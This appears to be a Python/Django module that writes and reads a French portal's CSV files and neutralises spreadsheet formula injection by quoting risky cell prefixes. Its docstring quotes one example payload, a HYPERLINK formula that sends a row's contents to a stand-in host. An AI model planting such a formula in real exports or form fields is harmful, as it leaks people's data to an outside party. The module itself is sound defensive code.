"""Every CSV the portal writes, in one format: UTF-8 with a byte order mark (spreadsheet
software then reads accents right), ``;`` between cells (French spreadsheets use the comma
for decimals), CRLF line ends, and no live formula.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would
be run as a formula by the spreadsheet that opens the file (a first name
``=HYPERLINK("http://x.example/?"&A1,"y")`` sends the row elsewhere): such text is prefixed
with ``'`` and reads as text. Numbers are written as they are: a negative longitude is a
number, not a formula. ``restore`` takes the prefix off again when the portal reads back a
file it wrote.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

BOM = "\ufeff"
CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str | int | float | Decimal:
    """The cell as written: ``None`` is empty, numbers stay numbers, text that a
    spreadsheet would run as a formula gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    # Text already quoted by hand (``'=1``) gets one more quote, so that ``restore`` gives
    # back exactly what was typed.
    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """The text of a cell ``neutralise`` prefixed, as it was typed."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
        return text[1:]
    return text


class _Echo:
    """A file-like object whose ``write`` hands the line back (for streaming)."""

    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """The file line by line (the first one carries the byte order mark)."""
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
    prefix = BOM
    for row in rows:
        yield prefix + writer.writerow([neutralise(value) for value in row])
        prefix = ""
    if prefix:
        yield prefix


def csv_text(rows: Iterable[Iterable]) -> str:
    return "".join(csv_lines(rows))


def csv_response(rows: Iterable[Iterable], *, filename: str, streaming: bool = False):
    """A download of ``rows`` (the header first). ``streaming`` for big exports: lines are
    written as the rows are read (give it an ``iterator()``), nothing is held in memory."""
    if streaming:
        response = StreamingHttpResponse(csv_lines(rows), content_type=CONTENT_TYPE)
    else:
        response = HttpResponse(csv_text(rows), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def write_csv(out, rows: Iterable[Iterable]) -> None:
    """Write ``rows`` to a text stream (a command's ``self.stdout``, a file) in the same
    format as a download, so that ``> bilan.csv`` opens as it should."""
    for line in csv_lines(rows):
        out.write(line)


class CsvReadError(ValueError):
    """A file that cannot be read as CSV; the message says why, in French."""


READ_ENCODINGS = ("utf-8-sig", "cp1252")
READ_DELIMITERS = (";", ",")


def read_csv(data: bytes, *, max_rows: int | None = None) -> tuple[list[str], list[list[str]]]:
    """Read a CSV file someone else wrote: UTF-8 with or without a byte order mark, or
    Windows-1252 (older spreadsheets); ``;`` or ``,`` between cells (whichever the header
    line has more of). Returns the header and the rows, each padded or cut to the header's
    width; blank rows are kept as empty lists so line numbers stay right. ``max_rows``
    data rows at most, else ``CsvReadError``."""
    for encoding in READ_ENCODINGS:
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:  # cp1252 leaves five bytes undefined
        raise CsvReadError("Ce fichier n'est pas un CSV lisible : enregistrez-le en « CSV UTF-8 ».")
    if "\x00" in text:  # UTF-16, a spreadsheet's own format, an image…
        raise CsvReadError("Ce fichier n'est pas un CSV lisible : enregistrez-le en « CSV UTF-8 ».")
    first_line = text.lstrip("\ufeff").split("\n", 1)[0]
    delimiter = max(READ_DELIMITERS, key=first_line.count)
    try:
        lines = list(
            csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
        )
    except csv.Error as error:
        raise CsvReadError(f"Le fichier CSV est mal formé ({error}).") from error
    if not lines or not any(cell.strip() for cell in lines[0]):
        raise CsvReadError("Le fichier est vide : la première ligne doit nommer les colonnes.")
    header = [cell.strip() for cell in lines[0]]
    rows = lines[1:]
    if max_rows is not None and sum(1 for row in rows if any(row)) > max_rows:
        raise CsvReadError(f"Le fichier a plus de {max_rows} lignes.")
    width = len(header)
    return header, [
        ([cell.strip() for cell in row] + [""] * width)[:width] if any(row) else [] for row in rows
    ]
